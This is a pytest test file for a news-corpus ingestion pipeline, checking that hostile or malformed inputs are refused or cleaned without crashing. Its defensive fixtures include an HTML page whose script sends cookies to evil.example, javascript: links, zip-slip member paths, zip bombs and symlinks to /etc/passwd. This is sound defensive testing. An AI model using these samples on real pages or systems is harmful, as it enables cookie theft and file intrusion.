"""Hostile and broken input: every file ends in ``articles`` or ``problems``, never a crash.

Big inputs are generated in ``tmp_path``; size limits are lowered with ``monkeypatch`` where a
test would otherwise need hundreds of megabytes.
"""

from __future__ import annotations

import io
import json
import re
import struct
import zipfile
from pathlib import Path

import pandas as pd
import pytest

from data_pipeline import boilerplate, build_corpus, settings
from data_pipeline.sentences import sentence_spans
from tests.conftest import forget_text_readings

REPORT = "NATO talks\n\nNATO and Russia met in Brussels on Wednesday. The talks lasted four hours."


def write(folder, name, content):
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
    return path


def zip_bytes(members, compression=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, content in members.items():
            archive.writestr(zipfile.ZipInfo(name), content, compress_type=compression)
    return buffer.getvalue()


def problems_of(corpus) -> dict[str, str]:
    return dict(zip(corpus.problems["path"], corpus.problems["problem"], strict=True))


def sentences_text(corpus) -> str:
    return "\n".join(corpus.sentences["text"])


def test_empty_and_whitespace_files(tmp_path):
    write(tmp_path / "in", "empty.txt", b"")
    write(tmp_path / "in", "blank.txt", " \n\n\t \r\n")
    corpus = build_corpus([tmp_path / "in"])
    assert corpus.articles.empty
    assert problems_of(corpus) == {"in/blank.txt": "empty: no text", "in/empty.txt": "empty: no text"}


@pytest.mark.parametrize(
    "data",
    [
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 8,  # NUL bytes
        bytes(b % 255 + 1 for b in range(0, 40_000, 7)),  # no NUL, mostly control/undecodable
    ],
    ids=["png", "noise"],
)
def test_binary_file_is_a_problem(tmp_path, data):
    corpus = build_corpus([write(tmp_path, "photo.txt", data)])
    assert corpus.articles.empty
    assert problems_of(corpus)["photo.txt"].startswith("binary file")


SPOKEN = "Le président a déclaré à Bruxelles: «\u00a0Nous sommes très inquiets.\u00a0» Zürich, naïve, façade."
CURLY = "“The risk of conflict is real,” Stoltenberg said. It costs €5 million… It’s done – for now."


@pytest.mark.parametrize(
    ("text", "encoding"),
    [
        (SPOKEN, "latin-1"),
        (CURLY, "cp1252"),
        (SPOKEN, "cp1252"),
        (CURLY, "utf-16"),  # Python writes a BOM
        (SPOKEN, "utf-16-be"),  # BOM added below
        (CURLY, "utf-8-sig"),
    ],
)
def test_legacy_and_bom_encodings_are_decoded_right(tmp_path, text, encoding):
    data = text.encode(encoding)
    if encoding == "utf-16-be":
        data = b"\xfe\xff" + data
    corpus = build_corpus([write(tmp_path, "a.txt", data)])
    assert corpus.problems.empty
    assert " ".join(sentences_text(corpus).split()) == " ".join(text.split())


def _build_cost(paths) -> tuple[float, object]:
    """CPU seconds of ``build_corpus(paths)`` and the corpus (a ratio is asserted, never a time)."""
    import time

    started = time.process_time()
    corpus = build_corpus(paths)
    return time.process_time() - started, corpus


@pytest.fixture(scope="module")
def one_article_cost(tmp_path_factory):
    """What building one ordinary news article costs (the reference of the cost ratios), warm."""
    folder = tmp_path_factory.mktemp("reference")
    write(folder, "warm.txt", SEEDS_NEWS.read_text(encoding="utf-8") + " Warm.")
    build_corpus([folder / "warm.txt"])
    write(folder, "story.txt", SEEDS_NEWS.read_text(encoding="utf-8"))
    return _build_cost([folder / "story.txt"])[0]


# Refusing an input that is too big costs no more than this many times building one ordinary
# article (CPU time of the whole build, a ratio). Measured: 0.8x for 5 or 50 MB of text, at most
# 1.6x for the hostile pages below. Before the limits were checked ahead of reading and parsing:
# 50 MB of text 4.4x (read, decoded and cleaned whole), 1 MB of nested divs 3.3x, 100,000 spans
# (1.4 MB) about 30x, a 50 MB page about 1,300x.
REFUSAL_MAX_RATIO = 3


@pytest.mark.parametrize("megabytes", [5, 50])
def test_a_50_mb_file_is_a_clear_problem_fast(tmp_path, one_article_cost, megabytes):
    path = tmp_path / "dump.txt"
    paragraph = "NATO and Russia met in Brussels on Wednesday. The talks lasted four hours.\n\n"
    path.write_text(paragraph * (megabytes * 1024 * 1024 // len(paragraph)))
    cost, corpus = _build_cost([path])
    assert corpus.articles.empty
    assert problems_of(corpus)["dump.txt"].startswith("text too long for one article")
    assert cost <= REFUSAL_MAX_RATIO * one_article_cost, f"{cost / one_article_cost:.1f}x one article"


def _nested_divs(size: int) -> str:
    unit = "<div class=x>"
    depth = size // (2 * len(unit))
    return "<html><body>" + unit * depth + "<p>NATO and Russia met in Brussels.</p>" + "</div>" * depth + "</body></html>"


HOSTILE_PAGES = {
    "nested divs, 1 MB": lambda: _nested_divs(1_000_000),
    "nested divs, 4 MB": lambda: _nested_divs(4_000_000),
    "unclosed nested divs, 2 MB": lambda: "<html><body>" + "<div><span>word " * 130_000,
    "280,000 spans, 4 MB": lambda: "<html><body><p>" + "<span>a</span>" * 280_000 + "</p></body></html>",
    "50 MB page": lambda: "<html><body>" + "<p>NATO and Russia met in Brussels on Wednesday.</p>\n" * 1_000_000,
}


@pytest.mark.parametrize("name", HOSTILE_PAGES)
def test_html_cost_is_bounded_before_parsing(tmp_path, one_article_cost, name):
    """Size, element and nesting limits are checked before the page is parsed: a hostile page is
    a problem that costs a few times one ordinary article, whatever its size."""
    path = write(tmp_path, "page.html", HOSTILE_PAGES[name]())
    cost, corpus = _build_cost([path, write(tmp_path, "good.txt", REPORT)])
    assert list(corpus.articles["path"]) == ["good.txt"]
    assert problems_of(corpus)["page.html"].startswith("HTML ")
    assert cost <= REFUSAL_MAX_RATIO * one_article_cost, f"{cost / one_article_cost:.1f}x one article"


def test_a_page_within_the_html_limits_is_read_whole(tmp_path):
    """The limits leave an ordinary long page alone: 2,000 paragraphs in 40 levels of nesting."""
    paragraphs = [f"<p>Paragraph {number} says that NATO and Russia met in Brussels.</p>" for number in range(2_000)]
    html = "<html><body>" + "<div>" * 40 + "<article>" + "\n".join(paragraphs) + "</article>" + "</div>" * 40
    corpus = build_corpus([write(tmp_path, "page.html", html + "<script>var s = '<div>' + '<div>';</script></body></html>")])
    assert corpus.problems.empty
    assert "Paragraph 1999 says" in corpus.articles["body"].iloc[0]


def test_a_file_over_the_byte_limit_is_not_read(tmp_path, monkeypatch):
    monkeypatch.setattr(settings, "MAX_FILE_BYTES", 1_000)
    corpus = build_corpus([write(tmp_path, "big.txt", REPORT * 50)])
    assert problems_of(corpus)["big.txt"].startswith("file too large")


def test_a_5_mb_line_is_a_problem_in_a_build(tmp_path):
    corpus = build_corpus([write(tmp_path, "line.txt", "word " * 1_000_000)])
    assert problems_of(corpus)["line.txt"].startswith("text too long for one article")


@pytest.mark.parametrize(
    "line",
    ["word " * 1_000_000, "Short sentence here. " * (settings.MAX_ARTICLE_CHARS // 21 - 1)],
    ids=["5 MB without a stop", "the longest article the build accepts, in short sentences"],
)
def test_a_5_mb_line_is_cleaned_and_split_without_loss(line):
    body = boilerplate.parse("Title\n\n" + line + "end.").body
    assert body.split() == (line + "end.").split()
    spans = sentence_spans(body)
    assert max(end - start for _, start, end in spans) <= settings.MAX_SENTENCE_CHARS
    assert sum(len(body[s:e].split()) for _, s, e in spans) == len(body.split())


HOSTILE_HTML = """<!doctype html><html><head><title>NATO talks</title>
<style>body { background: url(javascript:alert('style')) } .x::after { content: "STYLE-TEXT" }</style>
<script>alert("SCRIPT-TEXT"); document.location = "https://evil.example/?c=" + document.cookie;</script>
</head><body onload="alert('ONLOAD-TEXT')">
<article><h1>NATO talks</h1>
<p onclick="alert('ONCLICK-TEXT')">NATO and Russia met in Brussels on Wednesday for their first council in two years.</p>
<iframe src="https://evil.example/frame" srcdoc="<p>IFRAME-TEXT</p>">IFRAME-FALLBACK</iframe>
<p>The talks lasted four hours, officials said <img src=x onerror="alert('ONERROR-TEXT')">afterwards.</p>
<script type="module">import("SCRIPT-MODULE-TEXT")</script>
<noscript>NOSCRIPT-TEXT</noscript>
<a href="javascript:alert('HREF-TEXT')">a link</a>
</article></body></html>"""


def test_html_code_never_reaches_sentences(tmp_path):
    corpus = build_corpus([write(tmp_path, "page.html", HOSTILE_HTML)])
    text = sentences_text(corpus)
    assert "first council in two years" in text
    assert "The talks lasted four hours" in text
    body = corpus.articles["body"].iloc[0]
    for marker in (
        "SCRIPT",
        "STYLE",
        "ONLOAD",
        "ONCLICK",
        "IFRAME",
        "ONERROR",
        "NOSCRIPT",
        "HREF",
        "alert",
        "javascript",
    ):
        assert marker not in text and marker not in body, marker


def test_html_that_is_only_script_is_a_problem(tmp_path):
    corpus = build_corpus([write(tmp_path, "page.html", "<html><body><script>alert(1)</script></body></html>")])
    assert problems_of(corpus)["page.html"] in ("HTML has no main text", "empty: no text")


def test_markdown_link_injection_keeps_words_not_targets(tmp_path):
    text = (
        "# NATO talks\n\nNATO met [Russia](javascript:alert(document.cookie)) in Brussels on Wednesday. "
        "See ![the map](javascript:alert(1)) and [the statement](data:text/html;base64,PHNjcmlwdD4=) for details."
    )
    corpus = build_corpus([write(tmp_path, "story.md", text)])
    body = corpus.articles["body"].iloc[0]
    assert "NATO met Russia in Brussels on Wednesday." in body
    assert "the statement for details" in body
    assert "javascript" not in body and "data:" not in body and "](" not in body


def test_zip_with_unsafe_paths_reads_only_the_safe_members(tmp_path):
    data = zip_bytes(
        {"../evil.txt": REPORT + " A", "/abs/evil.txt": REPORT + " B", "C:/win.txt": REPORT + " C", "ok.txt": REPORT}
    )
    (tmp_path / "in").mkdir()
    corpus = build_corpus([write(tmp_path / "in", "c.zip", data)])
    assert list(corpus.articles["path"]) == ["c.zip!ok.txt"]
    problems = problems_of(corpus)
    for name in ("../evil.txt", "/abs/evil.txt", "C:/win.txt"):
        assert problems[f"c.zip!{name}"].startswith("unsafe path in zip")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in"]  # nothing was extracted anywhere
    assert sorted(p.name for p in (tmp_path / "in").iterdir()) == ["c.zip"]


def test_zip_bomb_by_compression_ratio(tmp_path):
    data = zip_bytes({"bomb.txt": b" " * 4_000_000, "ok.txt": REPORT})
    corpus = build_corpus([write(tmp_path, "c.zip", data)])
    assert list(corpus.articles["path"]) == ["c.zip!ok.txt"]
    assert "looks like a zip bomb" in problems_of(corpus)["c.zip!bomb.txt"]


def test_zip_total_size_limit_over_members_and_nesting(tmp_path, monkeypatch):
    monkeypatch.setattr(settings, "MAX_ZIP_TOTAL_BYTES", 2 * len(REPORT) + 10)
    inner = zip_bytes({"c.txt": REPORT + " C"}, zipfile.ZIP_STORED)
    data = zip_bytes({"a.txt": REPORT, "b.txt": REPORT + " B", "z.zip": inner}, zipfile.ZIP_STORED)
    corpus = build_corpus([write(tmp_path, "c.zip", data)])
    assert list(corpus.articles["path"]) == ["c.zip!a.txt", "c.zip!b.txt"]
    assert problems_of(corpus) == {"c.zip!z.zip": "zip total size limit reached: not read"}


def test_zip_member_larger_than_its_header_says(tmp_path):
    data = bytearray(zip_bytes({"a.txt": REPORT * 20}))
    central = data.rindex(b"PK\x01\x02")
    data[central + 24 : central + 28] = struct.pack("<I", 10)  # declared uncompressed size: 10 bytes
    corpus = build_corpus([write(tmp_path, "c.zip", bytes(data))])
    assert corpus.articles.empty
    problem = problems_of(corpus)["c.zip!a.txt"]
    assert "Bad CRC-32" in problem or "larger than its header declares" in problem


def test_broken_zip_is_a_problem(tmp_path):
    corpus = build_corpus([write(tmp_path, "c.zip", b"PK\x03\x04 not really a zip")])
    assert problems_of(corpus)["c.zip"].startswith("broken zip")


def test_nested_zips_are_read_down_to_the_depth_limit(tmp_path):
    data = REPORT.encode()
    name = "story.txt"
    for level in range(settings.MAX_ZIP_DEPTH + 1):
        data = zip_bytes({name: data, f"top{level}.txt": f"{REPORT} {level}"})
        name = f"level{level}.zip"
    corpus = build_corpus([write(tmp_path, "outer.zip", data)])
    paths = list(corpus.articles["path"])
    assert paths == ["outer.zip!level2.zip!level1.zip!top1.txt", "outer.zip!level2.zip!top2.txt", "outer.zip!top3.txt"]
    assert problems_of(corpus) == {
        "outer.zip!level2.zip!level1.zip!level0.zip": f"zip nested deeper than {settings.MAX_ZIP_DEPTH} levels: not read"
    }


def test_duplicate_files_are_kept_and_marked(tmp_path):
    write(tmp_path / "in", "a.txt", REPORT)
    write(tmp_path / "in", "copy/a.txt", REPORT)
    articles = build_corpus([tmp_path / "in"]).articles.set_index("path")
    assert articles["article_id"].is_unique
    assert pd.isna(articles.loc["in/a.txt", "duplicate_of"])
    assert articles.loc["in/copy/a.txt", "duplicate_of"] == articles.loc["in/a.txt", "article_id"]


def test_a_duplicate_s_sentences_and_quotes_follow_its_own_id(tmp_path):
    text = 'Talks in Geneva\n\nTalks ended on Monday.\n\n"We are ready to talk," the minister said in Geneva.'
    for name in ("a.txt", "b.txt", "c.txt"):
        write(tmp_path / "in", name, text)
    corpus = build_corpus([tmp_path / "in"])
    ids = corpus.articles.set_index("path")["article_id"]
    assert ids.is_unique
    for path, article_id in ids.items():
        sentences = corpus.sentences.loc[corpus.sentences["article_id"] == article_id]
        quotes = corpus.quotes.loc[corpus.quotes["article_id"] == article_id]
        assert len(sentences) == 2 and sentences["sentence_id"].str.startswith(article_id).all(), path
        assert sentences["position"].tolist() == [0, 1]
        assert len(quotes) == 1 and quotes["sentence_id"].iloc[0] in set(sentences["sentence_id"]), path
    assert corpus.quotes["quote_id"].is_unique and corpus.quotes["quote_cluster"].nunique() == 1


def test_a_file_of_only_boilerplate_is_a_problem(tmp_path):
    text = "ADVERTISEMENT\n\nShare this article\n\nRelated articles\n\nAll rights reserved."
    corpus = build_corpus([write(tmp_path, "junk.txt", text)])
    assert corpus.articles.empty
    assert corpus.problems["stage"].tolist() == ["boilerplate"]
    assert problems_of(corpus)["junk.txt"].startswith("no reporting text left")


def test_unbalanced_quotation_marks_lose_nothing(tmp_path):
    text = (
        "NATO talks\n\n"
        + 'He said "no. ' * 300
        + "\n\n“Open and never closed. The talks ended.\n\nOfficials left”. ”Odd."
    )
    corpus = build_corpus([write(tmp_path, "q.txt", text)])
    body = corpus.articles["body"].iloc[0]
    assert "".join(sentences_text(corpus).split()) == "".join(body.split())
    assert corpus.sentences["text"].str.len().max() <= settings.MAX_QUOTE_MERGE_CHARS


def test_an_article_of_10000_quotes(tmp_path):
    text = "Quotes\n\n" + " ".join(f"“Statement number {n} stands,” the minister said." for n in range(10_000))
    corpus = build_corpus([write(tmp_path, "quotes.txt", text)])
    assert corpus.problems.empty
    assert corpus.articles["n_sentences"].iloc[0] == 10_000


@pytest.mark.parametrize(
    ("name", "content", "problem"),
    [
        ("no_text.csv", "title,author\nTalks,Smith\n", "CSV has no text column"),
        ("header_only.csv", "", "CSV has no text column"),
        ("bad.csv", 'text\n"unterminated\x00', "binary file"),
    ],
)
def test_csv_without_usable_text(tmp_path, name, content, problem):
    corpus = build_corpus([write(tmp_path, name, content)])
    assert corpus.articles.empty
    assert problems_of(corpus)[name].startswith(problem)


def test_jsonl_with_broken_lines_keeps_the_good_ones(tmp_path):
    lines = [
        json.dumps({"text": REPORT + " one"}),
        '{"text": "cut off',
        "[1, 2, 3]",
        json.dumps({"title": "no text"}),
        json.dumps({"text": 42}),
        "",
        json.dumps({"text": REPORT + " seven"}),
    ]
    corpus = build_corpus([write(tmp_path, "e.jsonl", "\n".join(lines))])
    assert list(corpus.articles["path"]) == ["e.jsonl#1", "e.jsonl#7"]
    problems = problems_of(corpus)
    assert problems["e.jsonl#2"].startswith("broken JSON line")
    assert problems["e.jsonl#3"] == "JSON line is not an object"
    assert problems["e.jsonl#4"] == problems["e.jsonl#5"] == "JSON line has no text field"


def test_manifest_naming_missing_files(tmp_path):
    write(tmp_path / "in", "a.txt", REPORT)
    write(tmp_path / "in", "manifest.csv", "path,source\na.txt,Le Monde\ngone.txt,Der Bund\n")
    corpus = build_corpus([tmp_path / "in"])
    assert corpus.articles["source"].tolist() == ["Le Monde"]
    assert problems_of(corpus) == {"in/gone.txt": "named in manifest.csv but not found"}
    assert corpus.problems["stage"].tolist() == ["manifest"]


def test_manifest_in_a_zip_naming_missing_files(tmp_path):
    data = zip_bytes({"a.txt": REPORT, "manifest.csv": "path,source\na.txt,Le Monde\ngone.txt,Der Bund\n"})
    corpus = build_corpus([write(tmp_path, "c.zip", data)])
    assert corpus.articles["source"].tolist() == ["Le Monde"]
    assert problems_of(corpus) == {"c.zip!gone.txt": "named in manifest.csv but not found"}


def test_impossible_dates_are_null_never_a_crash(tmp_path):
    write(tmp_path / "in", "a.txt", "Talks\n\nOn Feb 30, 2022 NATO met Russia. The talks ended on February 30.")
    write(tmp_path / "in", "b.txt", REPORT)
    write(tmp_path / "in", "manifest.csv", "path,published\na.txt,Feb 30 2022\nb.txt,2022-02-30\n")
    write(tmp_path / "in", "e.csv", 'text,published\nNATO met Russia on Feb 30.,"Feb 30, 2022"\n')
    corpus = build_corpus([tmp_path / "in"])
    assert len(corpus.articles) == 3
    assert corpus.articles["published"].isna().all()
    assert corpus.events["date"].isna().sum() == 0  # any event found has a real date


def test_every_input_file_ends_in_articles_or_problems(tmp_path):
    files = {
        "good.txt": REPORT,
        "empty.txt": "",
        "binary.txt": b"\x00\x01\x02" * 100,
        "junk.txt": "ADVERTISEMENT\n\nAll rights reserved.",
        "page.html": HOSTILE_HTML,
        "e.jsonl": json.dumps({"text": REPORT}) + "\n{broken",
        "no_text.csv": "title\nx\n",
        "c.zip": zip_bytes({"../evil.txt": REPORT, "ok.txt": REPORT + " zipped"}),
        "report.pdf": b"%PDF-1.4 text",
        "latin.txt": SPOKEN.encode("latin-1"),
    }
    for name, content in files.items():
        write(tmp_path / "in", name, content)
    corpus = build_corpus([tmp_path / "in"])
    accounted = {p.split("!")[0].split("#")[0] for p in [*corpus.articles["path"], *corpus.problems["path"]]}
    assert accounted == {f"in/{name}" for name in files}


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("e.jsonl", "\n\n"),
        ("e.csv", "title,text\n"),
        ("c.zip", zip_bytes({"folder/": b"", "__MACOSX/._x": b"\x00"})),
    ],
    ids=["blank jsonl", "csv without rows", "zip without files"],
)
def test_files_without_articles_say_so(tmp_path, name, content):
    corpus = build_corpus([write(tmp_path, name, content)])
    assert problems_of(corpus) == {name: "no articles found"}


# Adversarial shapes for the cleaner, the splitter, quotes, dates and the Markdown converter. Their
# cost per character is compared with news text of the same length through the same stages (CPU
# time, a ratio: never a wall-clock limit). Measured at 50,000 characters: at most 3.4 (straight
# quotes); the quadratic sentence-break test of the cleaner made a run of letters cost ~10x at
# this length and ~25x at 120,000 (110 s), and grows with the length.
ADVERSARIAL_CHARS = 50_000
ADVERSARIAL_MAX_RATIO = 6
# Text made only of quotations (a quotation every 4 characters) costs more per character than news,
# which has about one quotation per 500 characters: each quotation is attributed, in bounded work.
# Measured warm at 50,000 characters: about 9x. What must not happen is growth with the length.
QUOTATION_DENSE = {"straight quotes": 15}
ADVERSARIAL_MAX_GROWTH = 2  # cost per character at the full length over a quarter of it (quadratic: 4x)
ADVERSARIAL = {
    "stops": ".",
    "open quotes": "“",
    "straight quotes": '"a. ',
    "nested brackets": "[",  # markdown_to_text was quadratic
    "link openers": "[a](",
    "emphasis": "**",
    "footer markers": "Comments\n\nA reply that says something.\n\n",  # the footer look-ahead was
    "datelines": "(AP) — ",
    "told": "told AFP. ",
    "bullets": "- a b c d e\n",
    "domains": "a.b-",
    "letters": "a",  # the sentence-break test of the cleaner was quadratic: 110 s at 120,000
    "digits": "7",
    "punctuation": ".,;:!?-",
    "spaces": " \t",
    "weekdays": "Monday ",
    "dates": "July 15, 2018 ",
}


def _per_article_cost(body: str):
    """CPU seconds per character of the per-article stage and the dates' mentions on ``body``."""
    import time

    from data_pipeline import dates
    from data_pipeline.articles import Frames
    from data_pipeline.ingest import Document, markdown_to_text

    text = "Title\n\nThe story starts here.\n\n" + body
    forget_text_readings()
    started = time.process_time()
    result = Frames.of([(0, Document("x.txt", markdown_to_text(text), {}))])
    for sentence in result.sentences["text"]:
        dates.mentions(sentence + " ")  # a new string: the mentions cache is not hit
    return (time.process_time() - started) / len(text), result


@pytest.fixture(scope="module")
def news_cost():
    story = SEEDS_NEWS.read_text(encoding="utf-8").split("\n", 1)[1]  # the story without its title
    _per_article_cost(story)  # warm (imports, compiled patterns), so the reference is news text's own cost
    # each copy's sentences made new, so that no cache of sentences serves the reference
    copies = [re.sub(r"\.(\s)", rf" ({number}).\1", story) for number in range(ADVERSARIAL_CHARS // len(story) + 1)]
    return _least_cost("\n\n".join(copies)[:ADVERSARIAL_CHARS])[0]


def _least_cost(body: str, runs: int = 3):
    """The least of a few measurements, as benchmarks take it: in the full suite on a shared machine
    one measurement of a shape read 7.6x news where it reads 1.3-1.9x alone."""
    return min((_per_article_cost(body) for _ in range(runs)), key=lambda measured: measured[0])


SEEDS_NEWS = Path(__file__).resolve().parent.parent / "seeds" / "000_db8827cbea5162a4.txt"  # reporting only


@pytest.mark.parametrize("name", ADVERSARIAL)
def test_adversarial_text_is_handled(name, news_cost):
    """Kept as an article (a stage that drops it fails), at a bounded multiple of the cost per
    character of news, and with a cost per character that does not grow with the length."""
    unit = ADVERSARIAL[name]
    quarter = _least_cost(unit * (ADVERSARIAL_CHARS // 4 // len(unit)))[0]
    cost, result = _least_cost(unit * (ADVERSARIAL_CHARS // len(unit)))
    assert result.problems.empty and len(result.articles) == 1
    assert "The story starts here." in result.articles["body"].iloc[0]
    bound = QUOTATION_DENSE.get(name, ADVERSARIAL_MAX_RATIO)
    assert cost <= bound * news_cost, f"{cost / news_cost:.1f}x the cost per character of news"
    assert cost <= ADVERSARIAL_MAX_GROWTH * quarter, f"{cost / quarter:.1f}x the cost per character at a quarter of the length"


@pytest.mark.parametrize(
    "name, content, problem",
    [
        ("s.json", '{"text": "Talks \\ud800 began.", "title": "T"}', "lone surrogate"),
        ("t.jsonl", '{"text": "Talks began on Monday.", "source": "\\ud800"}\n', "lone surrogate"),
        ("d.json", '{"text": "Talks began on Monday.", "views": ' + "9" * 5000 + "}", "JSON unreadable"),
        ("n.jsonl", "[" * 100_000 + "]" * 100_000 + "\n", "nested too deeply"),
        ("p.jsonl", '{"text": "Talks began on Monday.", "published": "2300-01-01"}\n', "outside the supported range"),
        ("q.jsonl", '{"text": "Talks began on Monday.", "published": "1600-01-01"}\n', "outside the supported range"),
        ("r.jsonl", '{"text": "Talks began on Monday.", "published": "9999-12-31"}\n', "outside the supported range"),
        ("u.jsonl", '{"text": "Talks began on Monday.", "published": "0001-01-01"}\n', "outside the supported range"),
    ],
)
def test_one_bad_file_is_a_problem_and_the_rest_is_built(tmp_path, name, content, problem):
    write(tmp_path, name, content)
    write(tmp_path, "good.txt", REPORT)
    corpus = build_corpus([tmp_path])
    assert any(path.endswith("good.txt") for path in corpus.articles["path"])
    found = " ".join(corpus.problems["problem"])
    assert problem in found


def test_a_manifest_date_outside_the_range_is_a_problem(tmp_path):
    write(tmp_path, "a.txt", REPORT)
    write(tmp_path, "manifest.csv", "path,published\na.txt,0022-01-07\n")
    corpus = build_corpus([tmp_path])
    assert len(corpus.articles) == 1 and corpus.articles["published"].isna().all()
    assert "outside the supported range" in " ".join(corpus.problems["problem"])


# Folder entries that are not regular files (issue 19 item 7). A read that blocks (a FIFO opened
# for reading waits for a writer for ever) is caught by an alarm: a hang detector, not a time bound.
HANG_SECONDS = 60


@pytest.fixture
def no_hang():
    import signal

    def hung(signum, frame):
        raise TimeoutError(f"the build blocked for {HANG_SECONDS} s (a FIFO or device opened?)")

    previous = signal.signal(signal.SIGALRM, hung)
    signal.alarm(HANG_SECONDS)
    yield
    signal.alarm(0)
    signal.signal(signal.SIGALRM, previous)


SECRET = "SECRET-MARKER the password is hunter2. It was kept outside the inputs."


def test_symlinks_outside_the_input_folder_are_never_followed(tmp_path):
    write(tmp_path, "secret.txt", SECRET)
    write(tmp_path / "outside", "story.txt", SECRET)
    write(tmp_path / "in", "good.txt", REPORT)
    (tmp_path / "in" / "secret.txt").symlink_to(tmp_path / "secret.txt")
    (tmp_path / "in" / "relative.txt").symlink_to(Path("..") / "secret.txt")
    (tmp_path / "in" / "passwd.txt").symlink_to("/etc/passwd")
    (tmp_path / "in" / "folder").symlink_to(tmp_path / "outside", target_is_directory=True)
    (tmp_path / "in" / "same.txt").symlink_to(tmp_path / "in" / "good.txt")  # inside: read
    corpus = build_corpus([tmp_path / "in"])
    assert sorted(corpus.articles["path"]) == ["in/good.txt", "in/same.txt"]
    problems = problems_of(corpus)
    for name in ("secret.txt", "relative.txt", "passwd.txt", "folder"):
        assert problems[f"in/{name}"].startswith("symlink outside the inputs"), name
    everything = " ".join([*corpus.articles["body"], *corpus.sentences["text"], *corpus.problems["problem"]])
    assert "SECRET-MARKER" not in everything and "root:" not in everything


def test_a_manifest_that_links_outside_is_not_read(tmp_path):
    write(tmp_path, "manifest.csv", "path,source\ngood.txt,LEAKED-OUTLET\n")
    write(tmp_path / "in", "good.txt", REPORT)
    (tmp_path / "in" / "manifest.csv").symlink_to(tmp_path / "manifest.csv")
    corpus = build_corpus([tmp_path / "in"])
    assert list(corpus.articles["path"]) == ["in/good.txt"]
    assert "LEAKED-OUTLET" not in set(corpus.articles["source"].dropna())
    assert "symlink outside the inputs" in " ".join(corpus.problems["problem"])


def test_broken_links_fifos_sockets_and_devices_are_problems_and_never_block(tmp_path, no_hang):
    import os
    import socket

    folder = tmp_path / "in"
    write(folder, "good.txt", REPORT)
    (folder / "broken.txt").symlink_to(folder / "gone.txt")
    (folder / "zero.txt").symlink_to("/dev/zero")
    (folder / "loop.txt").symlink_to(folder / "loop.txt")
    os.mkfifo(folder / "pipe.txt")
    server = socket.socket(socket.AF_UNIX)
    try:
        server.bind(str(folder / "sock.txt"))
        corpus = build_corpus([folder])
    finally:
        server.close()
    assert list(corpus.articles["path"]) == ["in/good.txt"]
    problems = problems_of(corpus)
    assert problems["in/broken.txt"].startswith("broken symlink")
    assert problems["in/loop.txt"].startswith("broken symlink")
    assert problems["in/zero.txt"].startswith("symlink outside the inputs")
    assert problems["in/pipe.txt"] == "not a regular file (a FIFO): not read"
    assert problems["in/sock.txt"] == "not a regular file (a socket): not read"


@pytest.mark.parametrize(
    ("make", "problem"),
    [
        (lambda tmp: __import__("os").mkfifo(tmp / "pipe.txt") or tmp / "pipe.txt", "not a regular file (a FIFO)"),
        (lambda tmp: Path("/dev/zero"), "not a regular file (a character device)"),
        (lambda tmp: Path("/dev/null"), "not a regular file (a character device)"),
    ],
    ids=["fifo", "dev-zero", "dev-null"],
)
def test_a_fifo_or_device_given_as_input_is_refused_by_stat(tmp_path, no_hang, make, problem):
    path = make(tmp_path)
    corpus = build_corpus([path, write(tmp_path, "good.txt", REPORT)])
    assert list(corpus.articles["path"]) == ["good.txt"]
    assert problems_of(corpus)[path.name].startswith(problem)


def test_an_unreadable_folder_is_a_problem(tmp_path, monkeypatch):
    import os

    from data_pipeline import ingest

    write(tmp_path / "in", "good.txt", REPORT)
    write(tmp_path / "in", "locked/story.txt", REPORT + " locked")
    real = os.scandir
    locked = str(tmp_path / "in" / "locked")

    def scandir(path="."):
        if str(path) == locked:  # chmod 000 does not stop root, who runs the tests in CI
            raise PermissionError(13, "Permission denied", str(path))
        return real(path)

    monkeypatch.setattr(ingest.os, "scandir", scandir)
    corpus = build_corpus([tmp_path / "in"])
    assert list(corpus.articles["path"]) == ["in/good.txt"]
    assert problems_of(corpus) == {"in/locked": "folder unreadable (Permission denied): not read"}


# Encodings (issue 19 item 11): invalid bytes are replaced and said, never silent mojibake.
def test_mixed_utf8_is_decoded_as_utf8_with_a_problem_saying_so(tmp_path):
    text = f"{SPOKEN} {CURLY}"
    data = text.encode("utf-8").replace("Zürich".encode(), b"Z\xfcrich")  # one Latin-1 byte in UTF-8
    corpus = build_corpus([write(tmp_path, "mixed.txt", data)])
    body = " ".join(corpus.articles["body"].iloc[0].split())
    assert "Le président a déclaré à Bruxelles" in body and "“The risk of conflict is real,”" in body
    assert "Z\ufffdrich" in body  # replaced, not guessed
    assert "Ã" not in body  # no mojibake of the UTF-8 around it
    assert problems_of(corpus)["mixed.txt"] == "invalid UTF-8: 1 byte(s) replaced with U+FFFD"


def test_a_file_of_two_encodings_is_a_problem_not_silent_mojibake(tmp_path):
    """Mostly Windows-1252 with a UTF-8 line: read as 1252 (the most of it), and said."""
    data = (SPOKEN + " " + SPOKEN).encode("cp1252") + "\n\nCopyright © 2022 – Zürich".encode()
    corpus = build_corpus([write(tmp_path, "two.txt", data)])
    assert "Le président a déclaré" in corpus.articles["body"].iloc[0]
    assert problems_of(corpus)["two.txt"].startswith("mixed encodings: 3 UTF-8 character(s) decoded in the legacy")


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be"])
@pytest.mark.parametrize("text", [SPOKEN, CURLY, "Переговоры НАТО и России прошли в Брюсселе в среду."], ids=["fr", "en", "ru"])
def test_utf16_and_utf32_without_a_bom_are_decoded(tmp_path, encoding, text):
    corpus = build_corpus([write(tmp_path, "a.txt", text.encode(encoding))])
    assert corpus.problems.empty
    assert " ".join(sentences_text(corpus).split()) == " ".join(text.split())


INVISIBLE = "\u202e\u202a\u202b\u202c\u202d\u2066\u2067\u2068\u2069\u200b\u200c\u200d\ufeff\u2060"


def test_bidi_overrides_and_zero_width_characters_never_reach_titles_outlets_or_speakers(tmp_path):
    row = {
        "title": f"NATO{INVISIBLE[:5]} talks{INVISIBLE[5:]}",
        "source": f"\u202eThe Daily{INVISIBLE}",
        "text": f"“It was frank,” said Jens\u200b Stoltenberg{INVISIBLE}. NATO and Russia met on Wednesday.",
    }
    corpus = build_corpus([write(tmp_path, "e.jsonl", json.dumps(row) + "\n")])
    article = corpus.articles.iloc[0]
    assert (article["title"], article["source"]) == ("NATO talks", "The Daily")
